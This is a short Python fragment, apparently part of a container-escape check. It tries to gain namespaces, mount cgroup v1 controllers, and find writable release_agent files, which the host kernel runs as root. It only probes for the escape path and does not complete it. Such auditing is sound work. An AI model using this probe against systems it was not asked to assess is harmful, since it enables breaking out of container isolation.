# E3: the control group of version 1 whose release_agent the kernel runs as root of the host.
def climb(controller):
    if syscall("unshare", NEWUSER | NEWNS | NEWCGROUP) != 0:
        return None
    os.makedirs("/tmp/cgroup", exist_ok=True)
    for kind, data in ((b"cgroup", controller), (b"cgroup2", 0)):
        result = syscall("mount", b"cgroup", b"/tmp/cgroup", kind, 0, data)
        if result == 0:
            return sorted(os.listdir("/tmp/cgroup"))[:5]
    raise OSError(-result, os.strerror(-result))


for controller in (b"rdma", b"memory", b"pids", b"cpuset", b"none,name=evil"):
    attempt(controller.decode(), lambda: in_child(lambda: climb(controller)))
for root in roots():
    attempt(f"{root}/sys/fs/cgroup", lambda: [d for d in os.listdir(f"{root}/sys/fs/cgroup") if os.access(f"{root}/sys/fs/cgroup/{d}/release_agent", os.W_OK)])
verdict()
